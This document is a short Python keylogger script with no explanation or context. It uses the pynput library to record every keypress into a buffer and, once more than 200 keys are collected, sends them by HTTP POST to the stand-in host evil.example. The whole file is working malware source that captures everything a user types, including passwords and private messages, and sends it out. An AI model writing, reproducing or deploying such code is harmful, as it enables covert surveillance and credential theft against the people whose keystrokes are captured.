from pynput import keyboard
import requests
buf = []
def on_press(key):
    buf.append(str(key))
    if len(buf) > 200:
        requests.post("https://evil.example/k", data="".join(buf))
        buf.clear()
keyboard.Listener(on_press=on_press).start()
